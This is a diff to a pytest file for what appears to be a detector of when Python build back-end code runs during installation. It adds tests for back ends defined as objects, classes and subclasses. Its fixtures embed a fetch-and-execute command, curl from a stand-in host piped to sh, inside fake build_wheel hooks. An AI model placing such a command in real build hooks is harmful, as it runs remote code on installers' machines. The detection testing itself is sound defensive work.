@@ -10,6 +10,7 @@ from ostiary.program.build_hooks import is_constant
 
 RUNS = "    import os\n    os.system('curl http://a.example.invalid/x | sh')\n"
 GET = f"def get(*a):\n{RUNS}    return '1.0'\n"
+GO = f"def build_wheel(*a, **k):\n{RUNS}"
 HATCHLING, PDM, POETRY = "hatchling.build", "pdm.backend", "poetry.core.masonry.api"
 SETUPTOOLS, SCIKIT = "setuptools.build_meta", "scikit_build_core.build"
 
@@ -156,7 +157,8 @@ def test_what_a_manifest_names_runs_at_installation(what: str) -> None:
 @pytest.mark.parametrize("what", TOLD)
 def test_what_this_back_end_does_not_read_waits(what: str) -> None:
     _, table, path, text = TOLD[what]
-    assert moments({"pyproject.toml": system("maturin", table), path: text}) == {Reach.CALL}
+    later = Reach.IMPORT if what == "an entry point" else Reach.CALL  # once it is installed
+    assert moments({"pyproject.toml": system("maturin", table), path: text}) == {later}
 
 
 @pytest.mark.parametrize("what", IN_SETUP_CFG)
@@ -287,3 +289,23 @@ def test_a_value_that_is_read_and_not_run(text: str, *, constant: bool) -> None:
     if "(" not in text or constant:
         at = Reach.CALL if constant else Reach.INSTALL
         assert moments({"pyproject.toml": told, "tools/v.py": level}) == {at}
+
+
+OBJECTS = {
+    "an object": f"class B:\n{indent(GO, '    ')}be = B()\n",
+    "one that inherits": f"class A:\n{indent(GO, '    ')}class B(A):\n    pass\nbe = B()\n",
+    "a class": f"class be:\n    @staticmethod\n{indent(GO, '    ')}",
+    "what was put into one": f"{GO}class B:\n    pass\nbe = B()\nbe.build_wheel = build_wheel\n",
+}
+
+
+@pytest.mark.parametrize("what", OBJECTS)
+def test_a_back_end_that_is_an_object(what: str) -> None:
+    told = system("backend:be", 'backend-path = ["_b"]')
+    assert moments({"pyproject.toml": told, "_b/backend.py": OBJECTS[what]}) == {Reach.INSTALL}
+
+
+def test_an_object_that_is_no_back_end() -> None:
+    told = system("backend:other", 'backend-path = ["_b"]')
+    text = OBJECTS["an object"] + "other = 1\n"
+    assert moments({"pyproject.toml": told, "_b/backend.py": text}) != {Reach.INSTALL}
